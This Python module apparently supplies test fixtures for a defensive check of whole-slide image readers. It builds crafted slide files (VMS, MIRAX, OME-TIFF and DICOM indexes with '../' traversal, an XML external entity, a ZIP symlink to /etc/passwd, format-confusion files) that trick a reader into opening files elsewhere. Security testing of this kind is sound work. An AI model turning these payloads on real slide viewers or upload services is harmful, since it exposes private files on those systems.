"""Files that look like slides and make a reader open other files, built as their formats define them."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
from pathlib import Path

import numpy as np
import tifffile
from PIL import Image

RED = (200, 20, 20)
_WHOLE_SLIDE, _DIRECTORY = "1.2.840.10008.5.1.4.1.1.77.1.6", "1.2.840.10008.1.3.10"
_PLAIN, _JPIP = "1.2.840.10008.1.2.1", "1.2.840.10008.1.2.4.94"
_UP = "../" * 24
"""More steps up than any directory is deep: what follows is then a path from the root."""


def write_secret(folder: Path) -> Path:
    """Write a red JPEG as a scanner does: with restart markers, at which OpenSlide cuts it into tiles."""
    path = folder / "secret.jpg"
    Image.new("RGB", (1024, 512), RED).save(path, quality=90, subsampling=0, restart_marker_rows=1)
    return path


def up_to(path: Path) -> str:
    """Return a file's path as one that is relative to any directory."""
    return _UP + str(path.absolute()).lstrip("/")


def vms(secret: Path) -> bytes:
    """Return a Hamamatsu VMS index whose pictures are a file elsewhere."""
    name = up_to(secret)
    lines = ["[Virtual Microscope Specimen]", "NoLayers=1", "NoJpegColumns=1", "NoJpegRows=1"]
    lines += [f"{key}={name}" for key in ("ImageFile", "MapFile", "MacroImage", "OptimisationFile")]
    lines += ["PhysicalWidth=1280000", "PhysicalHeight=1024000", "SourceLens=20"]
    return "\n".join(lines).encode() + b"\n"


def vmu(secret: Path) -> bytes:
    """Return a Hamamatsu VMU index, the uncompressed sibling of VMS."""
    lines = ["[Uncompressed Virtual Microscope Specimen]", "NoLayers=1", "BitsPerPixel=36", "PixelOrder=RGB"]
    lines += [f"{key}={up_to(secret)}" for key in ("ImageFile", "MapFile", "MacroImage")]
    return "\n".join(lines).encode() + b"\n"


def dicom_head(preamble: bytes = bytes(128), sop_class: str = _WHOLE_SLIDE, syntax: str = _PLAIN) -> bytes:
    """Return preamble and file meta information of a DICOM file."""

    def element(number: int, form: bytes, value: bytes) -> bytes:
        return struct.pack("<HH2sH", 2, number, form, len(value)) + value

    def uid(text: str) -> bytes:
        return text.encode() + b"\0" * (len(text) % 2)

    rest = element(0x02, b"UI", uid(sop_class)) + element(0x03, b"UI", uid("1.2.3")) + element(0x10, b"UI", uid(syntax))
    return preamble.ljust(128, b"#")[:128] + b"DICM" + element(0x00, b"UL", struct.pack("<I", len(rest))) + rest


def dicom_and_vms(secret: Path) -> bytes:
    """Return a file that is DICOM by its header, which is a comment to a VMS index.

    The header's length is wrong, at which OpenSlide takes the file for no DICOM and looks at the next format.
    """
    head = bytearray(dicom_head(b"#"))
    head[140:144] = struct.pack("<I", 60_000)
    return bytes(head) + b"\n" + vms(secret)


def mirax(secret: Path) -> bytes:
    """Return the index of a MIRAX slide."""
    lines = ["[GENERAL]", "SLIDE_VERSION = 01.03", "SLIDE_ID = A0", "[DATAFILE]", "FILE_COUNT = 1"]
    return "\r\n".join([*lines, f"FILE_0 = {up_to(secret)}"]).encode()


def zipped_link(target: str = "/etc/passwd") -> bytes:
    """Return a ZIP whose only entry is a symbolic link."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        entry = zipfile.ZipInfo("slide.tif")
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, target)
    return content.getvalue()


def tiff(folder: Path, description: str, **options: object) -> bytes:
    """Return a tiled TIFF with a description."""
    path = folder / "made.tif"
    pixels = np.full((300, 300, 3), 180, np.uint8)
    tifffile.imwrite(
        path, pixels, tile=(256, 256), photometric="rgb", description=description.encode(), metadata=None, **options
    )
    return path.read_bytes()


def ome(inside: str, uuid: str = "") -> str:
    """Return an OME-XML text of one RGB image."""
    own = f' UUID="{uuid}"' if uuid else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><OME xmlns="http://www.openmicroscopy.org/Schemas/OME/2016-06"{own}>'
        '<Image ID="Image:0"><Pixels ID="Pixels:0" DimensionOrder="XYCZT" Type="uint8" SizeX="300" SizeY="300" '
        f'SizeC="3" SizeZ="1" SizeT="1" PhysicalSizeX="0.5" PhysicalSizeY="0.5">{inside}</Pixels></Image></OME>'
    )


def ome_part(secret: Path, own: str, other: str) -> str:
    """Return the OME-XML of a file `own` whose pixels lie in `other`."""
    data = f'<TiffData IFD="0"><UUID FileName="{up_to(secret)}">{other}</UUID></TiffData>'
    return ome('<Channel ID="Channel:0:0" SamplesPerPixel="3"/>' + data, own)


def attacks(folder: Path, secret: Path) -> dict[str, tuple[str, bytes]]:
    """Return the content and a suffix that it claims, by name of the attack."""
    one, two = (f"urn:uuid:{number * 8}-0000-4000-8000-000000000000" for number in ("1", "2"))
    name = up_to(secret)
    companion = f'<?xml version="1.0"?><OME UUID="{one}"><BinaryOnly MetadataFile="{name}" UUID="{two}"/></OME>'
    external = f'<BinData BigEndian="false" Length="9"/><External href="file://{secret}" SHA1="0"/>'
    entity = (
        f'<?xml version="1.0"?><!DOCTYPE scn [<!ENTITY x SYSTEM "file://{secret}">]><scn><barcode>&x;</barcode></scn>'
    )
    czi = bytearray(b"ZISRAWFILE".ljust(512, b"\0"))
    czi[48:64], czi[64:80], czi[80] = b"1" * 16, b"2" * 16, 1
    plain = tiff(folder, "nothing")
    found = {f"VMS index as {suffix}": (suffix, vms(secret)) for suffix in (
        ".tif", ".tiff", ".svs", ".ndpi", ".scn", ".bif", ".dcm", ".czi", ".png", ".jpg", ".jpeg",
    )}  # fmt: skip
    return found | {
        "VMU index": (".tif", vmu(secret)),
        "VMS index after a comment": (".tif", b"#II*\0\n" + vms(secret)),
        "DICOM that is a VMS index": (".dcm", dicom_and_vms(secret)),
        "MIRAX index": (".tif", mirax(secret)),
        "MIRAX index as NDPI": (".ndpi", mirax(secret)),
        "OME-TIFF of a set": (".tif", tiff(folder, ome_part(secret, one, two))),
        "OME-TIFF of a set without a UUID of its own": (".tif", tiff(folder, ome_part(secret, "", two))),
        "OME-TIFF with a companion file": (".tif", tiff(folder, companion)),
        "OME-TIFF with external data": (".tif", tiff(folder, ome(external, one))),
        "companion file itself": (".tif", ome_part(secret, one, two).encode()),
        "damaged OME-XML": (".tif", tiff(folder, ome_part(secret, one, two)[:-9])),
        "XML with an entity": (".scn", tiff(folder, entity)),
        "Olympus VSI": (".tif", plain[:4] + _moved(plain)),
        "DICOMDIR": (".dcm", dicom_head(sop_class=_DIRECTORY) + bytes(64)),
        "DICOM with pixels on a server": (".dcm", dicom_head(syntax=_JPIP) + bytes(64)),
        "part of a CZI": (".czi", bytes(czi)),
        "ZIP with a link": (".tif", zipped_link()),
        "ZIP with a link as a picture": (".png", zipped_link()),
        "SQLite": (".tif", b"SQLite format 3\0" + bytes(4080)),
        "list of paths": (".svs", f"{secret}\n".encode()),
        "link as text": (".tif", b"IntxLNK\1" + str(secret).encode("utf-16-le")),
        "SVG picture": (".png", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{secret}"/></svg>'.encode()),
        "PostScript": (".tif", f"%!PS\n({secret}) (r) file".encode()),
        "JPEG as TIFF": (".tif", secret.read_bytes()),
        "TIFF as JPEG": (".jpg", plain),
    }


def _moved(content: bytes) -> bytes:
    """Return a TIFF's bytes from 4 on, with the volume header of a VSI at 8; its first directory is a copy behind."""
    order = "<"
    (at,) = struct.unpack_from(f"{order}I", content, 4)
    (n,) = struct.unpack_from(f"{order}H", content, at)
    directory = content[at : at + 2 + 12 * n] + bytes(4)
    end = len(content) + len(content) % 2
    head = struct.pack(f"{order}I", end) + b"\x18\0IS\x92\x01\0\0"
    return head + content[4 + len(head) :].ljust(end - 4 - len(head), b"\0") + directory
